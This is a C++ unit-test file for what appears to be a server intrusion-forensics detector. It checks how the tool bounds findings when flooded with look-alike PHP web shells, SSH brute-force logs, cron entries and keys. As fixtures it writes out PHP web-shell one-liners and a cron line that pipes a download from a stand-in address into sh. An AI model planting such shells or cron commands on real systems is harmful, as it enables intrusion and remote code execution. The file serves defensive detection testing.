#include <gtest/gtest.h>
#include <sys/stat.h>

#include <algorithm>
#include <filesystem>

#include "mini_root.hpp"
#include "rescue/detect/case_file.hpp"

namespace rescue::detect {
namespace {

constexpr int kMost = KeptFindings::kMostOfARule;
constexpr const char* kShell = "<?php eval($_POST['x']);";
constexpr const char* kPasswd =
    "root:x:0:0:root:/root:/bin/bash\nu:x:1000:1000::/home/u:/bin/sh\nwww:x:33:33::/srv:/usr/sbin/nologin\n";

Timestamp at(int second) {
  return parse_rfc3339("2026-09-13T02:00:00Z").value() + std::chrono::seconds(second);
}

/// A server with `count` look-alike web shells, written a second after the other long before anything else.
struct FloodedRoot : MiniRoot {
  explicit FloodedRoot(int count) {
    write("/etc/passwd", kPasswd);
    write("/etc/shadow", "root:*:1::::::\n");
    write("/var/log/auth.log", "2026-09-13T02:00:00Z h p: start\n");
    for (int i = 0; i < count; ++i) shell("/var/www/html/f" + std::to_string(i) + ".php", at(-90'000 + i));
  }
  void shell(const std::string& path, Timestamp written) {
    write(path, kShell);
    set_time(path, written);
  }
  /// The password of u is guessed at 02:10 and the intruder stays for a day.
  void guess_password() {
    std::string log;
    for (int i = 0; i < 60; ++i) {
      log += format_rfc3339(at(i)) + " h sshd[7]: Failed password for invalid user n" +
             std::to_string(i % 9) + " from 203.0.113.45 port 22 ssh2\n";
    }
    write("/var/log/auth.log", log + format_rfc3339(at(600)) +
                                   " h sshd[900]: Accepted password for u from 203.0.113.45 port 22 ssh2\n");
  }
};

std::size_t count_of(const Json& document, const std::string& rule) {
  const auto& findings = document.at("findings");
  return static_cast<std::size_t>(
      std::count_if(findings.begin(), findings.end(), [&](const Json& f) { return f.at("rule") == rule; }));
}

bool is_told(const Json& document, const std::string& rule, const std::string& path) {
  const auto& findings = document.at("findings");
  return std::any_of(findings.begin(), findings.end(),
                     [&](const Json& f) { return f.at("rule") == rule && f.at("path") == path; });
}

bool has_gap(const Json& document, const std::string& reason) {
  const auto& gaps = document.at("gaps");
  return std::any_of(gaps.begin(), gaps.end(), [&](const Json& gap) {
    return gap.at("reason").get_ref<const std::string&>().find(reason) != std::string::npos;
  });
}

TEST(Flood, OfOneRuleIsBoundedCountedAndPushesNoOtherOut) {
  FloodedRoot root(kMost + 200);
  root.write("/var/spool/cron/crontabs/u", "* * * * * curl -s http://198.51.100.7/x | sh\n");
  const auto document = root.investigate(2);
  EXPECT_EQ(count_of(document, "webshell.request_to_code"), std::size_t{kMost});
  EXPECT_EQ(count_of(document, "cron.download_to_shell"), 1U);
  EXPECT_TRUE(
      has_gap(document, "200 more findings of the rule webshell.request_to_code are counted but not listed"));
  EXPECT_EQ(document.at("counts").at("findings"), kMost + 1);
  EXPECT_EQ(document.at("counts").at("findings_left_out"), 200);
  const std::string why = document.at("verdict").at("intrusion").at("why");
  EXPECT_NE(why.find("701 findings speak(s) against the server. 200 more findings"), std::string::npos)
      << why;
}

TEST(Flood, KeepsTheOldestAndGivesTheSameBytesWhateverTheJobs) {
  const FloodedRoot root(kMost + 200);
  const auto one = root.investigate(1);
  EXPECT_TRUE(is_told(one, "webshell.request_to_code", "/var/www/html/f0.php"));
  EXPECT_FALSE(is_told(one, "webshell.request_to_code", "/var/www/html/f699.php"));
  for (const unsigned jobs : {2U, 5U}) EXPECT_EQ(root.investigate(jobs).dump(), one.dump());
}

TEST(Flood, DoesNotHideTheShellThatWasCalled) {
  FloodedRoot root(kMost + 200);
  root.shell("/var/www/html/real.php", at(0));
  root.write("/var/log/apache2/access.log",
             "203.0.113.9 - - [13/Sep/2026:02:00:05 +0000] \"POST /real.php HTTP/1.1\" 200 1 \"-\" \"x\"\n");
  const auto document = root.investigate();
  EXPECT_TRUE(is_told(document, "webshell.called", "/var/www/html/real.php"));
  EXPECT_TRUE(is_told(document, "webshell.request_to_code", "/var/www/html/real.php"));
  EXPECT_EQ(document.at("entry_vectors").at(0).at("address"), "203.0.113.9");
}

TEST(Flood, DoesNotHideTheShellThatWasWrittenInABreakIn) {
  FloodedRoot root(kMost + 200);
  root.guess_password();
  root.shell("/var/www/html/real.php", at(700));
  const auto document = root.investigate();
  EXPECT_TRUE(is_told(document, "webshell.request_to_code", "/var/www/html/real.php"));
  const std::string why = document.at("entry_vectors").at(0).at("why");
  EXPECT_NE(why.find("It was followed by a web shell."), std::string::npos) << why;
}

TEST(Flood, OfCalledShellsKeepsTheirTimeInMind) {
  FloodedRoot root(kMost + 200);
  std::string log;
  for (int i = 0; i < kMost + 200; ++i) {
    const auto time = format_rfc3339(at(i)).substr(11, 8);
    log += "203.0.113.9 - - [13/Sep/2026:" + time + " +0000] \"POST /f" + std::to_string(i) +
           ".php HTTP/1.1\" 200 1 \"-\" \"x\"\n";
  }
  root.write("/var/log/apache2/access.log", log);
  const auto document = root.investigate();
  EXPECT_EQ(count_of(document, "webshell.called"), std::size_t{kMost});
  EXPECT_TRUE(has_gap(document, "200 more findings of the rule webshell.called"));
  EXPECT_FALSE(has_gap(document, "break-ins"));
  ASSERT_EQ(document.at("entry_vectors").size(), 1U);
  EXPECT_LE(document.at("entry_vectors").at(0).at("chain").size(), 500U);
}

TEST(Flood, OfCronEntriesAndKeysIsBoundedToo) {
  FloodedRoot root(0);
  std::string table, keys;
  for (int i = 0; i < 2 * kMost; ++i) {
    table += "* * * * * /tmp/.x" + std::to_string(i) + "\n";
    keys += "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAvy9MbrX5xuQrB0b/eC49QaLpOq5DF0GanKfXY9ru+C\n";
  }
  root.write("/var/spool/cron/crontabs/u", table);
  root.write("/srv/.ssh/authorized_keys", keys);
  const auto document = root.investigate();
  EXPECT_EQ(count_of(document, "keys.service_account"), std::size_t{kMost});
  EXPECT_EQ(document.at("counts").at("findings"), 2 * kMost);
  EXPECT_EQ(document.at("counts").at("findings_left_out"), 2 * kMost);
}

TEST(Flood, OfUnreadableFilesIsBoundedAndStaysUndetermined) {
  FloodedRoot root(0);
  const auto folder = root.directory() + "/var/spool/cron/crontabs";
  std::filesystem::create_directories(folder);
  for (int i = 0; i < 300; ++i) ASSERT_EQ(::mkfifo((folder + "/" + std::to_string(i)).c_str(), 0600), 0);
  const auto document = root.investigate();
  EXPECT_TRUE(has_gap(document, "100 more gaps of this kind are counted but not listed"));
  EXPECT_EQ(document.at("counts").at("gaps_left_out"), 100);
  EXPECT_TRUE(has_gap(document, "there is no wtmp"));
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "undetermined");
}

TEST(Flood, OfLogInsLeavesTheBreakInOnTheTimeline) {
  FloodedRoot root(0);
  root.guess_password();
  std::string log;
  for (int i = 0; i < 6'000; ++i) {
    log += format_rfc3339(at(601 + i)) + " h sshd[" + std::to_string(1000 + i) +
           "]: Accepted publickey for u from 203.0.113.45 port 22 ssh2\n";
  }
  root.write("/var/log/secure", log);
  const auto document = root.investigate();
  const auto& timeline = document.at("timeline");
  EXPECT_EQ(timeline.size(), 5'000U);
  EXPECT_TRUE(has_gap(document, "more lines of the timeline are counted but not listed"));
  const auto of_findings = std::count_if(timeline.begin(), timeline.end(),
                                         [](const Json& line) { return line.contains("finding"); });
  EXPECT_EQ(of_findings, 2);  // the guessing and the log-in
}

TEST(Flood, OfNamesThatGrowWhenEscapedStaysWithinWhatTheWorkerTakes) {
  FloodedRoot root(0);
  std::string folder = "/var/www/html";
  for (int i = 0; i < 7; ++i) folder += "/" + std::string(240, '\x01');
  const char* const codes[] = {kShell, "<?php system($_POST['x']);", "<?php include $_GET['x'];",
                               "<?php $_GET['x']($_POST['y']);"};
  for (int i = 0; i < kMost; ++i) {
    for (const char kind : {'0', '1', '2', '3'})
      root.write(folder + "/" + kind + std::to_string(i) + std::string(240, '\x02') + ".php",
                 codes[kind - '0']);
  }
  const auto document = root.investigate(2);
  EXPECT_LT(document.dump(2).size(), std::size_t{60} << 20U);
  EXPECT_GT(document.at("counts").at("findings_left_out").get<int>(), 0);
  for (const auto* rule : {"webshell.request_to_code", "webshell.request_to_command",
                           "webshell.request_to_include", "webshell.request_names_function"}) {
    EXPECT_GT(count_of(document, rule), 100U) << rule;
  }
}

TEST(TimeLimit, HoldsFromTheFirstLogOnAndIsTold) {
  FloodedRoot root(1);
  root.write("/var/log/auth.log", "Sep 13 02:00:00 h p: m\n");
  const auto document = root.investigate(2, std::chrono::seconds(0));
  EXPECT_TRUE(has_gap(document, "the time limit was reached before the years of its lines were known"));
  EXPECT_TRUE(has_gap(document, "the time limit was reached while web files were read"));
  EXPECT_EQ(document.at("counts").at("lines"), 0);
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "undetermined");
}

}  // namespace
}  // namespace rescue::detect
